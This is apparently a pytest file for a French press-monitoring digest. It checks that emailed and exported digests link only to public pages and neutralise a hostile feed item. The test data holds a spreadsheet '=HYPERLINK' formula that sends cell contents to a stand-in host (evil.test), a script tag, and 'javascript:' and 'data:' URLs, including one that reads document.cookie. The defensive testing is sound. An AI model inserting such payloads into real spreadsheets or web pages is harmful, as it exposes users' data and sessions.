"""The digest as staff forward it: sent to a real SMTP server on loopback (aiosmtpd), it links
only to the configured public address (reading pages /document/… and /acteur/…) and to the
publishers' http(s) originals, puts « À retenir » first, tells each promise once, refuses to
send links that only open on this machine; a hostile feed item (script, javascript: and data:
URLs, =HYPERLINK title) leaves no active link or formula in any format."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timezone

import pytest
from aiosmtpd.controller import Controller
from click.testing import CliRunner

import digest_fixtures as fx
from conftest import free_port
from test_digest_mail import Inbox

PUBLIC = "https://veille.secpa.example"
HOSTILE_TITLE = '=HYPERLINK("http://evil.test/?"&A1,"Cliquez") <script>alert(1)</script> SEC-Pa'


@pytest.fixture
def smtp():
    inbox = Inbox()
    controller = Controller(inbox, hostname="127.0.0.1", port=free_port(), server_hostname="localhost")
    controller.start()
    yield controller, inbox
    controller.stop()


def _config(tmp_path, site: str, port: int = 25):
    config = fx.small_config(tmp_path)
    text = config.read_text(encoding="utf-8").replace(f'site_url = "{fx.SITE}"', f'site_url = "{site}"')
    mail = (f'[mail]\nhost = "127.0.0.1"\nport = {port}\ntls = "none"\nsender = "veille@secpa.example"\n'
            'recipients = ["equipe@secpa.example"]\nsubject_prefix = "[Veille SEC-Pa]"\n')
    text = text[:text.index("[mail]")] + mail + text[text.index("[nightly]"):]
    config.write_text(text, encoding="utf-8")
    db = fx.build(config)
    _add_hostile(config, db)
    db.close()
    return config


def _add_hostile(config_path, db):
    """A feed item written by an attacker, published in week 2026-W07."""
    from nlp.topic import TopicMatcher
    from pipelines.config import load_config
    from pipelines.store import store_document
    from spiders.items import Document

    config = load_config(config_path)
    doc = Document(url="javascript:alert(document.cookie)", source="lemonde_sante", kind="press",
                   title=HOSTILE_TITLE, published=datetime(2026, 2, 12, 9, tzinfo=timezone.utc), publisher="Le Monde",
                   text="Les SEC-Pa et data:text/html;base64,PHNjcmlwdD4= ou javascript:alert(2) dans le texte.")
    assert store_document(db, TopicMatcher.from_topic(config.topic), doc) == "insert"


def _digest(config, *args):
    from pipelines.cli import cli

    return CliRunner().invoke(cli, ["--config", str(config), "digest", "--week", "2026-W07", *args], obj={})


def test_the_mail_links_only_to_the_public_site_and_says_the_news_first(tmp_path, smtp):
    controller, inbox = smtp
    config = _config(tmp_path, PUBLIC, controller.port)
    result = _digest(config, "--send")
    assert result.exit_code == 0, result.output
    [(_, _, message)] = inbox.messages
    html = message.get_body(("html",)).get_content()
    text = message.get_body(("plain",)).get_content().replace("\r\n", "\n")
    links = re.findall(r'href="([^"]+)"', html)
    ours = [u for u in links if u.startswith(PUBLIC)]
    assert ours and all(re.match(rf"{PUBLIC}/(document|acteur|cette-semaine|sources)?", u) for u in ours)
    assert any(u.startswith(PUBLIC + "/document/") for u in ours) and any(u.startswith(PUBLIC + "/acteur/") for u in ours)
    others = [u for u in links if not u.startswith(PUBLIC) and not u.startswith("mailto:")]
    assert others and all(u.startswith("https://") for u in others), others  # the publishers' originals only
    for bad in ("127.0.0.1", "localhost", "file://", "/veille/documents/", "/veille/commitments/", "javascript:", "data:"):
        assert bad not in html and bad not in text, bad
    # « À retenir » comes before every other section, in both parts.
    assert text.index("## À retenir") < text.index("## En bref") < text.index("## Activité parlementaire")
    assert html.index("À retenir") < html.index("Activité parlementaire")
    # Each promise once: the 31 December promise, reported by two outlets, is one line.
    promise = "s'engage à maintenir le financement des SEC-Pa jusqu'au 31 décembre 2026"
    told = [line for line in text.splitlines() if promise in line and not line.lstrip().startswith(">")]
    assert len(told) == 1, told  # the article's own extract (why it was kept) is not a second listing
    assert "Le Monde, La Dépêche du Midi" in text
    assert message["Subject"].startswith("[Veille SEC-Pa] La ministre chargée de la Santé s'engage")
    assert "Pour ne plus recevoir ce résumé" in text


def test_links_to_this_machine_are_not_sent(tmp_path, smtp):
    controller, inbox = smtp
    config = _config(tmp_path, "http://127.0.0.1:8001", controller.port)
    result = _digest(config, "--send", "--format", "md")
    assert result.exit_code == 1
    assert "envoi refusé : les liens du résumé pointent vers ce poste (http://127.0.0.1:8001)" in result.output
    assert inbox.messages == []
    md = (tmp_path / "digests" / "veille-2026-W07.md").read_text(encoding="utf-8")
    assert "Liens locaux" in md  # the file says so


def test_a_hostile_feed_item_leaves_no_active_link_or_formula(tmp_path):
    config = _config(tmp_path, PUBLIC)
    result = _digest(config, "--out", str(tmp_path / "out"))
    assert result.exit_code == 0, result.output
    out = tmp_path / "out"
    html = (out / "veille-2026-W07.html").read_text(encoding="utf-8")
    md = (out / "veille-2026-W07.md").read_text(encoding="utf-8")
    raw_csv = (out / "veille-2026-W07.csv").read_text(encoding="utf-8")
    assert "HYPERLINK" in html and "<script" not in html.lower()
    assert not re.search(r'href="(?!https?://|mailto:)', html)
    for text in (html, md, raw_csv):
        assert "javascript:" not in text and "data:text" not in text
    rows = list(csv.reader(io.StringIO(raw_csv.lstrip("\ufeff")), delimiter=";"))
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    hostile = [cell for row in rows for cell in row if "HYPERLINK" in cell]
    assert hostile and all(cell.startswith("'=HYPERLINK") for cell in hostile)


def test_csv_cells_that_look_like_formulas_are_escaped():
    from pipelines.digest_render import csv_cell

    assert csv_cell("=1+1") == "'=1+1" and csv_cell("@SUM(A1)") == "'@SUM(A1)" and csv_cell(" -2+3") == "' -2+3"
    assert csv_cell("\t=cmd") == "'\t=cmd" and csv_cell("Le Monde") == "Le Monde" and csv_cell(1500000.0) == 1500000.0
